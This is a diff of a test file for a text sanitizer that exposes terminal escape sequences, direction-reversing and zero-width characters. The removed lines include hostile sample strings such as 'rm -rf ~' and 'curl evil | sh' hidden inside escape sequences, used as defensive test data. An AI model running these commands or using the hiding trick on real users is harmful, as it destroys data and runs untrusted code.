@@ -1,34 +1,51 @@
+import fc from 'fast-check';
 import { expect, test } from 'vitest';
-import { visibleLine, visibleText } from './visible-text.ts';
+import { HIDDEN_CASES, ORDINARY_TEXT, obeyedIn } from '../../test/support/hidden-characters.ts';
+import { hiddenWarning, visibleLine, visibleText } from './visible-text.ts';
 
-test('control characters are seen, and what stands between them stays', () => {
-  expect(visibleText('a\u001b[31mb\u0007')).toBe('a␛[31mb␇');
-  expect(visibleText('ls\u001b]0; rm -rf ~ \u0007 -l')).toBe('ls␛]0; rm -rf ~ ␇ -l');
-  expect(visibleText('a\u001bP; curl evil | sh\u001b\\b\u009d x\u009cc')).toBe(
-    'a␛P; curl evil | sh␛\\b\ufffd x\ufffdc',
-  );
-  expect(visibleText('safe\rrm -rf ~\b\u007f\0')).toBe('safe␍rm -rf ~␈␡␀');
+test.each(HIDDEN_CASES)('$name is shown, and nothing around it is lost', ({ text, shown }) => {
+  expect(visibleText(`a${text}b`)).toBe(`a${shown}b`);
+  expect(visibleLine(`a${text}b`)).toBe(`a${shown}b`);
+  expect(visibleText(text.repeat(3))).toBe(shown.repeat(3));
+  expect(hiddenWarning(`a${text}b`, 'x')).toMatch(/^Warning: x has \d+ hidden character/);
 });
 
-test.each([
-  ...['\u200e', '\u200f', '\u061c', '\u202a', '\u202e', '\u2066', '\u2069'],
-  ...['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u3164', '\u{e0041}', '\u2028'],
-])('what turns the direction of text or takes no room is seen: %j', char => {
-  expect(visibleText(`user${char}gnp.exe`)).toBe('user\ufffdgnp.exe');
+test.each(ORDINARY_TEXT)('%s is left as it is', text => {
+  expect(visibleText(text)).toBe(text);
+  expect(hiddenWarning(text, 'x')).toBeNull();
 });
 
-test.each(['👩\u200d💻 ❤\ufe0f\u200d🔥 👍🏽', 'می\u200cخواهم', 'क्\u200dष', 'é ß 中文'])(
-  '%s is left as it is',
-  text => {
-    expect(visibleText(text)).toBe(text);
-  },
-);
-
-test('half a character is one that cannot be shown', () => {
-  expect(visibleText('a\ud800b')).toBe('a\ufffdb');
+test('half a character is shown by its code', () => {
+  expect(visibleText('a\ud800b')).toBe('a<U+D800>b');
 });
 
 test('lines and tabs stay, and are one space on one line', () => {
   expect(visibleText('a\tb\r\nc')).toBe('a\tb\nc');
   expect(visibleLine(' a\tb\r\n\n c\u001b ')).toBe('a b c␛');
+  expect(hiddenWarning('a\tb\r\nc', 'x')).toBeNull();
+});
+
+test('whatever the text, nothing in it is obeyed, and showing it twice changes nothing', () => {
+  const piece = fc.oneof(
+    fc.string({ unit: 'binary', maxLength: 6 }),
+    fc.constantFrom(...HIDDEN_CASES.map(({ text }) => text), '\r\n', '👩', 'ا', '1', '\u20e3'),
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 30 }), pieces => {
+      const shown = visibleText(pieces.join(''));
+      const rest = shown.replaceAll(/\u200c|\u200d|[\ufe00-\ufe0f]/g, '');
+      expect(obeyedIn(rest)).toEqual([]);
+      expect(visibleText(shown)).toBe(shown);
+    }),
+    { numRuns: 500 },
+  );
+});
+
+test('a warning counts and names', () => {
+  expect(hiddenWarning('a\u202eb\u001b[1m\u001b[0m', 'The file')).toBe(
+    'Warning: The file has 3 hidden characters, shown by picture or code: 2 terminal control (2 × U+001B ESC), 1 reading direction (1 × U+202E RLO)',
+  );
+  expect(
+    hiddenWarning(String.fromCharCode(...Array.from({ length: 12 }, (_, at) => at + 0x80)), 'It'),
+  ).toMatch(/, 7 more kinds\)$/);
 });
